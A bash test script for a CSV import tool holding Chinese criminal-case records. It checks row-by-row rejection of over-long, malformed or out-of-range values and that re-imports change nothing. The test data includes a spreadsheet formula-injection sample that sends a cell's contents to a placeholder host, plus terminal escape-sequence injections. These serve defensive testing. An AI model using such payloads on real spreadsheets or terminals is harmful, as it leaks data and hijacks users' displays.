#!/usr/bin/env bash
# Values the database would refuse, or no real case holds, are rejected row
# by row: one file with good rows and one bad row per limit imports with exit
# 1, reports each bad row as FILE:LINE: column: reason (control characters
# escaped, never raw; a court code not of GB/T 2260; an identifier beginning
# like a formula), stores exactly the good rows, and a second import
# changes nothing. Before these checks the file failed as a whole in the
# database (exit 3). A header holding a NUL or two byte-order marks refuses
# its file; explain escapes control characters stored before the checks.
set -euo pipefail
S=$SENTENCER
csv=$TMPDIR/limits.csv
count() { psql -XAtqc "SELECT count(*) FROM sentencer.act"; }

$S migrate

# The file, and beside it the expected rejects: "LINE<TAB>COLUMN<TAB>reason part".
python3 - "$csv" "$TMPDIR/expected" <<'PY'
import datetime, sys
path, expected = sys.argv[1:3]
today = datetime.date.today().isoformat()  # the importing machine's local date
cols = ["case_no", "defendant_no", "act_no", "court_code", "offense", "offense_date",
        "conviction_date", "defendant_kind", "age_at_offense", "illegal_info_clicks",
        "payment_settled_yuan"]
base = dict(case_no="(2021)京0105刑初123号", defendant_no="1", act_no="1", court_code="110105",
            offense="help_network_crime", offense_date="2021-03-01", conviction_date="2021-09-01",
            defendant_kind="person", age_at_offense="30", illegal_info_clicks="",
            payment_settled_yuan="")
rows, want = [], []
def good(**kw):
    rows.append(dict(base, **kw))
def bad(column, reason, **kw):
    rows.append(dict(base, **kw))
    want.append((column, reason))
n200 = "(2022)" + "京" * 64 + "12"          # 200 bytes, at the limit
assert len(n200.encode()) == 200
good(act_no="2147483647", payment_settled_yuan="1000000000000")
good(case_no=n200, defendant_no="D" * 100, court_code="820000",
     illegal_info_clicks="1000000000000", payment_settled_yuan="1000000000000.00")
good(case_no="(2024)沪0115刑初9号", offense_date=today, conviction_date=today, age_at_offense="0")
good(case_no="(2021)京0105刑初124号=1", defendant_no="1-2")  # not at the start: text
bad("act_no", "too large a number (at most 2147483647): '2147483648'", act_no="2147483648")
bad("act_no", "not a whole number: '+2'", act_no="+2")
bad("case_no", "too long (3000 bytes, at most 200)", case_no="A" * 3000)
bad("case_no", "too long (201 bytes, at most 200)", case_no="(2022)" + "京" * 64 + "123")
bad("case_no", "too long (201 bytes, at most 200)", case_no="(2022)" + "京" * 65)  # straddles
bad("defendant_no", "too long (101 bytes, at most 100)", defendant_no="D" * 101)
code = "not a court code: six digits of the court's administrative division (GB/T 2260, e.g. 110105)"
bad("court_code", code, court_code="C" * 201)
bad("court_code", code, court_code="京0105")
bad("court_code", code, court_code="1101050")   # seven digits
bad("court_code", code, court_code="11010")
bad("court_code", code, court_code="990105")    # no province 99
bad("court_code", code, court_code="=1+1")
# Identifiers a spreadsheet would take for a formula (tab and CR are control
# characters, refused above).
formula = "begins with =, +, - or @, which a spreadsheet takes for a formula"
bad("case_no", formula, case_no='=HYPERLINK("http://x.example/?"&B2,"open")')
bad("case_no", formula, case_no="+1")
bad("defendant_no", formula, defendant_no="-2")
bad("defendant_no", formula, defendant_no="@SUM(A1)")
bad("case_no", "contains a control character (\\x1B): '(2021)\\x1B[2J\\x1B]0;pwned\\x07'",
    case_no="(2021)\x1b[2J\x1b]0;pwned\x07")
bad("court_code", "contains a control character (\\u009B): '110105\\u009B31m'",
    court_code="110105\u009b31m")
bad("defendant_no", "contains a control character (\\x7F): '1\\x7F'", defendant_no="1\x7f")
bad("illegal_info_clicks", "too large a count (at most 1000000000000): '1000000000001'",
    illegal_info_clicks="1000000000001")
bad("payment_settled_yuan",
    "too large an amount (at most 1000000000000 yuan): '1000000000000.01'",
    payment_settled_yuan="1000000000000.01")
bad("offense_date", f"after today ({today}): '2150-01-01'", offense_date="2150-01-01",
    conviction_date="")
bad("conviction_date", f"after today ({today}): '2199-12-31'", conviction_date="2199-12-31")
bad("age_at_offense", "minus zero (write 0): '-0'", age_at_offense="-0")
bad("age_at_offense", "not a whole number: '+30'", age_at_offense="+30")
# Distinct keys, so that no good row repeats another.
for i, r in enumerate(rows):
    r["act_no"] = r["act_no"] if r["act_no"] != "1" else str(i + 1)
def cell(v):
    return '"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\r\n') else v
with open(path, "w", encoding="utf-8", newline="") as f:
    f.write(",".join(cols) + "\r\n")
    for r in rows:
        f.write(",".join(cell(r[c]) for c in cols) + "\r\n")
first_bad = 2 + len(rows) - len(want)
with open(expected, "w", encoding="utf-8") as f:
    for k, (column, reason) in enumerate(want):
        f.write(f"{first_bad + k}\t{column}\t{reason}\n")
PY

rc=0
$S import --rejects "$TMPDIR/rejects.csv" "$csv" 2>"$TMPDIR/import1.log" || rc=$?
[ "$rc" -eq 1 ] || { echo "import: exit $rc, want 1"; cat "$TMPDIR/import1.log"; exit 1; }
python3 - "$TMPDIR/import1.log" "$TMPDIR/expected" "$TMPDIR/rejects.csv" <<'PY'
import csv, re, sys
log_path, expected, rejects = sys.argv[1:4]
raw = open(log_path, "rb").read()
# Nothing raw reaches the terminal: no C0 but the line ends, no DEL, no C1.
text = raw.decode("utf-8")
bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
assert not bad, f"raw control characters on standard error: {bad!r}"
reports = [l for l in text.splitlines() if re.match(r".*limits\.csv:\d+: ", l)]
want = [l.rstrip("\n").split("\t") for l in open(expected, encoding="utf-8")]
for line, column, reason in want:
    prefix = f"limits.csv:{line}: {column}: "
    hits = [r for r in reports if prefix in r]
    assert len(hits) == 1, f"want one report {prefix}..., got {hits}\n{text}"
    assert reason in hits[0], f"want {reason!r} in {hits[0]!r}"
assert len(reports) == len(want), f"{len(reports)} reports, want {len(want)}:\n{text}"
with open(rejects, newline="", encoding="utf-8") as f:
    rows = list(csv.DictReader(f))
assert [(r["line"], r["column"]) for r in rows] == [(w[0], w[1]) for w in want], rows
PY
# Exactly the good rows are stored.
[ "$(count)" -eq 4 ] || { echo "stored $(count) rows, want 4"; exit 1; }
stored=$(psql -XAtqc "SELECT string_agg(act_no::text, ',' ORDER BY act_no) FROM sentencer.act")
[ "$stored" = "2,3,4,2147483647" ] || { echo "stored act_no $stored"; exit 1; }
grep -q '29 rows read, 4 stored (4 new, 0 changed, 0 unchanged), 25 rejected' "$TMPDIR/import1.log" ||
    { cat "$TMPDIR/import1.log"; exit 1; }

# A second import of the same file changes nothing.
before=$(psql -XAtqc "SELECT string_agg(id || ':' || facts_rev, ',' ORDER BY id) FROM sentencer.charge")
rc=0
$S import "$csv" 2>"$TMPDIR/import2.log" || rc=$?
[ "$rc" -eq 1 ] || { echo "second import: exit $rc, want 1"; cat "$TMPDIR/import2.log"; exit 1; }
grep -q '4 stored (0 new, 0 changed, 4 unchanged), 25 rejected' "$TMPDIR/import2.log" ||
    { cat "$TMPDIR/import2.log"; exit 1; }
after=$(psql -XAtqc "SELECT string_agg(id || ':' || facts_rev, ',' ORDER BY id) FROM sentencer.charge")
[ "$before" = "$after" ] || { echo "charges changed: $before -> $after"; exit 1; }
[ "$(count)" -eq 4 ]

# A header with a NUL, or with two byte-order marks, refuses its file.
head=$(head -1 "$csv" | tr -d '\r')
row=$(sed -n 2p "$csv" | tr -d '\r')
printf 'case_no\0junk,%s\n%s\n' "${head#case_no,}" "$row" >"$TMPDIR/nul.csv"
printf '\xEF\xBB\xBF\xEF\xBB\xBF%s\n%s\n' "$head" "$row" >"$TMPDIR/bom2.csv"
rc=0
$S import "$TMPDIR/nul.csv" 2>"$TMPDIR/nul.log" || rc=$?
[ "$rc" -eq 1 ] || { echo "NUL header: exit $rc, want 1"; cat "$TMPDIR/nul.log"; exit 1; }
grep -q 'NUL character in column 1 of the header' "$TMPDIR/nul.log" || { cat "$TMPDIR/nul.log"; exit 1; }
grep -q 'UTF-16' "$TMPDIR/nul.log" || { cat "$TMPDIR/nul.log"; exit 1; }
rc=0
$S import "$TMPDIR/bom2.csv" 2>"$TMPDIR/bom2.log" || rc=$?
[ "$rc" -eq 1 ] || { echo "two BOMs: exit $rc, want 1"; cat "$TMPDIR/bom2.log"; exit 1; }
grep -q 'the header starts with two byte-order marks; save the file again as CSV UTF-8' \
    "$TMPDIR/bom2.log" || { cat "$TMPDIR/bom2.log"; exit 1; }
after2=$(psql -XAtqc "SELECT string_agg(id || ':' || facts_rev, ',' ORDER BY id) FROM sentencer.charge")
[ "$after" = "$after2" ] || { echo "a refused file changed charges"; exit 1; }

# explain escapes what older imports may have stored.
psql -XAtqc "UPDATE sentencer.charge SET case_no = E'(2019)\\x1b[2J\\u009b1m' WHERE case_no = '(2024)沪0115刑初9号'"
psql -XAtqc "UPDATE sentencer.act a SET case_no = c.case_no FROM sentencer.charge c WHERE c.id = a.charge_id"
rc=0
$S run --rules "$PROJECT/lua-rules" --tests "$PROJECT/tests/rules" --out "$TMPDIR/out" \
    >/dev/null 2>"$TMPDIR/run.log" || rc=$?
[ "$rc" -le 1 ] || { cat "$TMPDIR/run.log"; exit 1; }
$S explain $'(2019)\e[2J\u009b1m' >"$TMPDIR/explain.out"
python3 - "$TMPDIR/explain.out" <<'PY'
import sys
text = open(sys.argv[1], encoding="utf-8").read()
bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
assert not bad, f"explain printed raw control characters: {bad!r}"
assert text.startswith("(2019)\\x1B[2J\\u009B1m  defendant 1"), text[:80]
PY
echo "limits enforced row by row"
